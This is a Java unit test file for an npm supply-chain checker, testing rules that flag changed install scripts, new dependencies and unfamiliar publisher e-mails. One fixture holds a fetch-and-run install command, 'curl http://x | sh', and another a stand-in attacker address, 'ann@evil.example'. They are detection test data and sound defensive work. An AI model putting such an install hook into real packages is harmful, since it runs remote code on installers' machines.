package dev.trustlock.core.policy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.trustlock.core.detect.CheckTarget;
import dev.trustlock.core.detect.InstallScriptChangedRule;
import dev.trustlock.core.detect.NewDependencyRule;
import dev.trustlock.core.detect.NewInstallScriptRule;
import dev.trustlock.core.detect.PublisherChangeRule;
import dev.trustlock.core.detect.ReleaseChecks;
import dev.trustlock.core.history.PackageHistory;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** Install-script and dependency changes, and publisher changes, on small inline packuments. */
class ChangeRulesTest {

    private static PackageHistory history(String versionsJson, String timeJson) throws Exception {
        return PackageHistory.fromPackument(new ObjectMapper().readTree(
                "{\"name\":\"p\",\"versions\":" + versionsJson + ",\"time\":" + timeJson + "}"));
    }

    private static Evaluation check(PackageHistory h, String version) {
        return new ReleaseChecks(Policy.EMPTY, LocalDate.of(2026, 1, 1)).check(CheckTarget.of(version, h, Optional.empty(), false));
    }

    @Test
    void changedInstallScriptIsANoteAndUnchangedIsNothing() throws Exception {
        PackageHistory h = history("""
                {"1.0.0":{"scripts":{"install":"node-gyp rebuild"}},
                 "1.0.1":{"scripts":{"install":"node-gyp rebuild"}},
                 "1.0.2":{"scripts":{"install":"curl http://x | sh"}}}""",
                "{\"1.0.0\":\"2025-01-01T00:00:00Z\",\"1.0.1\":\"2025-02-01T00:00:00Z\",\"1.0.2\":\"2025-03-01T00:00:00Z\"}");
        assertEquals(List.of(), check(h, "1.0.1").findings());
        Evaluation e = check(h, "1.0.2");
        assertEquals(Set.of(InstallScriptChangedRule.ID), AxiosIncidentTest.ruleIds(e));
        assertEquals(Severity.NOTE, e.findings().get(0).severity());
        assertEquals("node-gyp rebuild", e.findings().get(0).evidence().get("previousCommand"));
    }

    @Test
    void firstReleaseOfANewMajorIsComparedWithThePreviousRelease() throws Exception {
        PackageHistory h = history("""
                {"1.4.0":{"dependencies":{"a":"^1"}},
                 "2.0.0":{"dependencies":{"a":"^2"},"optionalDependencies":{"fsevents":"^2"},
                          "scripts":{"preinstall":"node check.js"}}}""",
                "{\"1.4.0\":\"2025-01-01T00:00:00Z\",\"2.0.0\":\"2025-02-01T00:00:00Z\"}");
        Evaluation e = check(h, "2.0.0");
        assertEquals(Set.of(NewDependencyRule.ID, NewInstallScriptRule.ID), AxiosIncidentTest.ruleIds(e));
        Finding dep = AxiosIncidentTest.only(e, NewDependencyRule.ID);
        assertEquals("fsevents", dep.evidence().get("dependency"));
        assertEquals("1.4.0", dep.evidence().get("previousVersion"));
    }

    @Test
    void publisherRotatingAmongRecentMaintainersIsNotAChange() throws Exception {
        PackageHistory h = history("""
                {"1.0.0":{"_npmUser":{"name":"ann","email":"ann@example.org"}},
                 "1.0.1":{"_npmUser":{"name":"bob","email":"bob@example.org"}},
                 "1.0.2":{"_npmUser":{"name":"ann","email":"ANN@example.org"}},
                 "1.0.3":{"_npmUser":{"name":"ann","email":"ann@evil.example"}}}""",
                "{\"1.0.0\":\"2025-01-01T00:00:00Z\",\"1.0.1\":\"2025-02-01T00:00:00Z\","
                        + "\"1.0.2\":\"2025-03-01T00:00:00Z\",\"1.0.3\":\"2025-04-01T00:00:00Z\"}");
        assertEquals(List.of(), check(h, "1.0.2").findings());
        Evaluation e = check(h, "1.0.3");
        assertEquals(Set.of(PublisherChangeRule.ID), AxiosIncidentTest.ruleIds(e));
        assertEquals("ann@evil.example", e.findings().get(0).evidence().get("publisherEmail"));
        assertEquals("ann@example.org", e.findings().get(0).evidence().get("knownEmails"));
        assertEquals(Severity.NOTE, e.findings().get(0).severity());
        assertTrue(e.findings().get(0).message().startsWith("published by ann from ann@evil.example, an e-mail never used"));
    }
}
